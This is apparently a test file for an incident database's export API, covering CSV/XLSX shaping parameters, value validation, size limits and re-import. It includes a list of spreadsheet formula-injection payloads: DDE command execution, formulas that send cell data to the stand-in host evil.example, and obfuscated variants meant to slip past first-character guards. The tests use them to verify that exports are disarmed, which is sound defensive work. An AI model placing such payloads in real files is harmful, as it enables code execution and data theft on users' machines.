/** What shapes the table of a file: fields, labels, excel, profile; who takes them, and what they do. */

import { env } from 'cloudflare:workers'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { otherParameters } from '../../../../schemas/query.ts'
import { type FormatName, formatNames, formats } from '../../../../src/export/registry.ts'
import { en } from '../../../../src/messages/en.ts'
import { readWorkbook } from '../../../pure/export/xlsx/read-workbook.ts'
import {
  type Answer,
  admin,
  ask,
  expectProblem,
  patchedDatabase,
  publishRecord,
  withBindings,
} from '../../client.ts'

const bom = '\ufeff'
type Row = Readonly<Record<string, string>>
const rowsOf = (text: string): Row[] => parse(text, { columns: true, bom: true })

const shapes = {
  fields: 'fields=country,id',
  profile: 'profile=full',
  labels: 'labels=true',
  excel: 'excel=true',
  sort: 'sort=-date',
} as const
type Shape = keyof typeof shapes

/** Which formats take what. */
const takers: Readonly<Record<Shape, readonly FormatName[]>> = {
  fields: ['csv', 'geojson', 'xlsx'],
  profile: ['csv'],
  labels: ['csv', 'xlsx'],
  excel: ['csv'],
  sort: ['csv', 'json', 'ndjson'],
}
const everyShape = Object.keys(shapes) as Shape[]

/** What is told where it is not to ask for another format. */
const instead: Readonly<Record<string, RegExp>> = {
  'profile of json': /always has complete records/,
  'profile of ndjson': /always has complete records/,
  'profile of zip': /tables always have complete records/,
  'excel of xlsx': /texts are never computed/,
}

const expectRefused = (answer: Answer, shape: Shape, name: string) => {
  const { errors = [], detail } = expectProblem(answer, 'invalid-query')
  expect(errors).toMatchObject([
    { parameter: shape, rule: 'parameter.invalid', received: shapes[shape].split('=')[1] },
  ])
  const wanted = instead[`${shape} of ${name}`]
  if (wanted) expect(detail).toMatch(wanted)
  else
    for (const taker of takers[shape])
      expect(detail).toContain(`${formats[taker].label} (/incidents.${taker})`)
}

describe.each(everyShape)('the parameter %s', (shape) => {
  it('is taken by the formats that can, and refused by the others with those that do', async () => {
    await publishRecord()
    for (const name of formatNames) {
      const answer = await ask(`/incidents.${name}?${shapes[shape]}`)
      if (!takers[shape].includes(name)) expectRefused(answer, shape, name)
      else {
        expect([name, answer.status, answer.headers.get('Sitrep-Rows')]).toEqual([name, 200, '1'])
        expect(answer.headers.get('Content-Location')).toContain(shape)
        expect(answer.headers.get('ETag')).not.toBe((await ask(`/incidents.${name}`)).headers.get('ETag'))
        expect((await ask(answer.headers.get('Content-Location') ?? '')).text).toBe(answer.text)
      }
    }
  })

  it('names those in the codebook', () => {
    const labels = takers[shape].map((name) => formats[name].label)
    expect(labels.filter((label) => !new RegExp(`\\b${label}\\b`).test(otherParameters[shape].help))).toEqual(
      [],
    )
  })

  it('is refused by the page, unless it is the order', async () => {
    if (shape === 'sort') expect((await ask(`/incidents?${shapes.sort}`)).status).toBe(200)
    else expectRefused(await ask(`/incidents?${shapes[shape]}`), shape, 'page')
  })
})

describe('a value', () => {
  it.each([
    ['excel=yes', 'excel', /neither true nor false/],
    ['labels=TRUE', 'labels', /neither true nor false/],
    ['excel=true&excel=true', 'excel', /once/],
    ['profile=fulll', 'profile', /Did you mean full\?/],
    ['profile=acledd', 'profile', /Did you mean acled\?/],
    ['fields=id,nonsense', 'fields', /no column "nonsense"/],
    ['fields=id,contry', 'fields', /Did you mean country\?/],
    ['fields=id,id', 'fields', /once/],
    ['fields=id&profile=full', 'fields', /together/],
    ['labels=true&profile=full', 'labels', /together/],
    ['exel=true', 'exel', /\bexcel\b/],
    ['label=true', 'label', /\blabels\b/],
  ])('that cannot be had is refused: %s', async (query, parameter, wanted) => {
    const { errors = [], detail } = expectProblem(await ask(`/incidents.csv?${query}`), 'invalid-query')
    expect(errors).toMatchObject([{ parameter }])
    expect(detail).toMatch(wanted)
  })

  it('that says what holds anyway changes nothing', async () => {
    await publishRecord({ title: '=1' })
    const { text } = await ask('/incidents.csv')
    for (const query of ['excel=false', 'labels=false', 'profile=flat', 'excel=&fields=&labels='])
      expect((await ask(`/incidents.csv?${query}`)).text).toBe(text)
  })

  it('of several that a format cannot take has every one told', async () => {
    const { errors = [] } = expectProblem(
      await ask('/incidents.json?fields=id&excel=true&labels=true'),
      'invalid-query',
    )
    expect(errors.map((each) => (each as { parameter?: string }).parameter)).toEqual([
      'fields',
      'labels',
      'excel',
    ])
  })
})

/** Formulas of the lists that testers use, and what hides them from a guard that looks at the first sign only. */
const payloads = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+2+3+cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("http://evil.example")',
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
  'harmless;=1+2',
  'harmless; @SUM(1)',
  'harmless\n=1+2',
  'harmless\n\n -1+2',
  'harmless\t=1+2',
  '","=1+2',
  '＝1+2',
  '＋1+2',
  '－1+2',
  '＠SUM(1)',
  'harmless;\u2003=1+2',
  '-55.25',
  '+49 30 1234',
  "'=1+2",
  '%0A=1+2',
  'سقطت;=1+2',
]

/** A record with a text in every field whose text goes out in a cell; each is of one line where it must be. */
const everywhere = (text: string, i: number) => ({
  reference: `${text} ${i}`,
  date_note: text,
  location: {
    country: 'BR',
    admin1: text,
    admin2: text,
    admin3: text,
    place: text,
    latitude: -10.5,
    longitude: -55.25,
  },
  actors: ['perpetrator', 'side_a', 'responder'].map((role) => ({ role, name: text })),
  targets: [{ name: 'x' }, { name: text }],
  claims: [{ by: text }],
  attributions: [{ by: text, to: text }],
  links: [{ type: 'related', incident: text }],
  sources: [{ publisher: text }, { title: text }],
  title: text,
  summary: text,
  external: { scheme: 'x', fields: { '=a': text, b: `\t${text}` } },
})

const signs = '=+\\-@＝＋－＠'
const computed = new RegExp(`^\\s*[${signs}]|^[\\t\\r\\n]`)
/** Where a cell begins for a program that parts cells at `;` or tabs and knows no quotes. */
const computedInside = new RegExp(`[;\\t\\r\\n]"?[^\\S\\t\\r\\n]*[${signs}]`)
const numbers = new Set(['latitude', 'longitude', 'location.latitude', 'location.longitude'])

describe('a text that a spreadsheet would compute', () => {
  const publishAll = async () => {
    const refused: string[] = []
    for (const [i, text] of payloads.entries()) {
      const answer = await admin('/incidents?publish=true', {
        json: { event_type: 'battle', date: '2022-01-05', ...everywhere(text, i) },
      })
      if (answer.status !== 201) refused.push(`${text}: ${answer.text.slice(0, 300)}`)
    }
    expect(refused).toEqual([])
  }

  it('is as it is in the file for programs, and disarmed in every cell of the one for spreadsheets', async () => {
    await publishAll()
    const { incidents } = (await ask('/incidents.json')).data()
    for (const query of ['', '&profile=full', '&fields=title,id,summary,longitude']) {
      const raw = (await ask(`/incidents.csv?commit=${payloads.length}${query}`)).text
      const guarded = (await ask(`/incidents.csv?commit=${payloads.length}${query}&excel=true`)).text
      expect([raw.startsWith(bom), guarded.startsWith(bom)]).toEqual([false, true])
      const [rows, safe] = [rowsOf(raw), rowsOf(guarded)]
      expect(rows.map(({ title }) => title)).toEqual(incidents.map(({ title }: { title: string }) => title))
      expect(rows.map(({ title }) => title)).toEqual(payloads)
      expect(safe.length).toBe(rows.length)
      for (const [i, row] of safe.entries())
        for (const [name, cell] of Object.entries(row)) {
          const before = rows[i]?.[name] ?? ''
          if (numbers.has(name)) expect(cell).toBe(before)
          else expect([name, computed.test(cell)]).toEqual([name, false])
          expect(cell.replaceAll("'", '')).toBe(before.replaceAll("'", ''))
        }
      expect(computedInside.exec(guarded)).toBeNull()
    }
  })

  it('is text in a workbook', async () => {
    await publishAll()
    const { sheets, parts } = readWorkbook((await ask('/incidents.xlsx')).bytes)
    expect(sheets.incidents?.rows.map(({ title }) => [title?.type, title?.value])).toEqual(
      payloads.map((text) => ['text', text]),
    )
    expect(Object.values(parts).join('')).not.toContain('<f>')
  })

  it('may be in the name of a column', async () => {
    await publishRecord({ external: { scheme: 'x', fields: { ';=1': 'y' } } })
    const { text } = await ask('/incidents.csv?profile=full&excel=true')
    expect(text).toContain(`,"external.fields.;'=1",`)
  })
})

describe('labels', () => {
  it('stand for codes in a workbook as in CSV, under the same names', async () => {
    await publishRecord({ weapons: [{ type: 'rocket' }, { type: 'mortar' }], outcome: 'missed' })
    const query = 'labels=true&fields=weapon_types,id,outcome,event_type,country,dataset'
    const [row = {}] = rowsOf((await ask(`/incidents.csv?${query}`)).text)
    expect(row).toMatchObject({
      weapon_types: 'Rocket; Mortar',
      outcome: 'Missed',
      country: 'Iraq',
      dataset: 'reports',
    })
    const { header, rows } = readWorkbook((await ask(`/incidents.xlsx?${query}`)).bytes).sheets.incidents ?? {
      header: [],
      rows: [],
    }
    expect(header).toEqual(Object.keys(row))
    expect(rows.map((each) => header.map((name) => each[name]?.value))).toEqual([Object.values(row)])
  })

  it('go with the guard and the columns that are asked for', async () => {
    await publishRecord({ title: '=1', outcome: 'missed' })
    const { text } = await ask('/incidents.csv?labels=true&excel=true&fields=outcome,title')
    expect(text).toBe(`${bom}outcome,title\r\nMissed,'=1\r\n`)
  })
})

describe('a file of more records than its format can have', () => {
  /** The application, with a database that says that so many records are published. */
  const doorOf = (published: number) => {
    const batch = async <T>(statements: D1PreparedStatement[]): Promise<D1Result<T>[]> => {
      const results = await env.DB.batch<Record<string, unknown>>(statements)
      const patched = (row: Record<string, unknown>) => ('published' in row ? { ...row, published } : row)
      return results.map((result) => ({ ...result, results: result.results.map(patched) }) as D1Result<T>)
    }
    return withBindings({ DB: patchedDatabase({ batch }) })
  }

  it.each([
    ['xlsx', 1_048_575],
    ['zip', 150_000],
  ] as const)('is refused, with the ways out: %s', async (name, most) => {
    const { detail, errors } = expectProblem(
      await ask(`/incidents.${name}`, {}, doorOf(most + 1)),
      'invalid-query',
    )
    expect(detail).toContain(`at most ${en.number(most)} records; this query has ${en.number(most + 1)}`)
    expect(detail).toMatch(/\/incidents\.csv.*\/incidents\.parquet.*filters/)
    expect(errors).toMatchObject([{ rule: 'format.rows', received: most + 1 }])
    expect((await ask(`/incidents.${name}`, { method: 'HEAD' }, doorOf(most))).status).toBe(200)
    expect((await ask('/incidents.csv', { method: 'HEAD' }, doorOf(most + 1))).status).toBe(200)
  })
})

describe('a file for people that comes back', () => {
  const reference = 'r-1'
  const back = (text: string) =>
    admin('/imports?profile=flat&dataset=reports', {
      body: text,
      headers: { 'Content-Type': 'text/csv' },
    })

  it('with labels is what it was, and its labels are noted', async () => {
    await publishRecord({ reference, weapons: [{ type: 'rocket' }], outcome: 'missed' })
    const { text } = await ask('/incidents.csv?labels=true')
    const report = (await back(text)).data()
    expect([report.unchanged, report.rejected, report.commit]).toEqual([1, 0, null])
    const noted = report.notices.filter(({ rule }: { rule: string }) => rule === 'code.label')
    expect(noted.map(({ column }: { column: string }) => column)).toEqual(
      expect.arrayContaining(['event_type', 'outcome', 'weapon_types', 'country']),
    )
  })

  it('with apostrophes before formulas is what it was', async () => {
    await publishRecord({
      reference,
      title: '=1+1',
      summary: 'a;-b\n+c',
      tags: ['x'],
      actors: [{ name: '@x', role: 'perpetrator' }],
      targets: [{ name: '-y' }, { name: 'z;=1' }],
    })
    const { text } = await ask('/incidents.csv?excel=true')
    expect(text).toContain("'=1+1")
    expect((await back(text)).data()).toMatchObject({ unchanged: 1, updated: 0, commit: null })
    const edited = (await back(text.replace('shelling', 'drone_strike'))).data()
    expect(edited).toMatchObject({ updated: 1 })
    const { incidents } = (await admin('/incidents.json')).data()
    expect(incidents[0]).toMatchObject({
      title: '=1+1',
      summary: 'a;-b\n+c',
      event_subtype: 'drone_strike',
      actors: [{ name: '@x' }],
      targets: [{ name: '-y' }, { name: 'z;=1' }],
    })
  })

  it('with the mark of Excel is what it was', async () => {
    await publishRecord({
      reference,
      title: 'سقطت; a',
      location: { country: 'IQ', latitude: -1.5, longitude: 44 },
    })
    const { text } = await ask('/incidents.csv?excel=true')
    expect((await back(text)).data()).toMatchObject({ unchanged: 1, updated: 0, commit: null })
  })
})
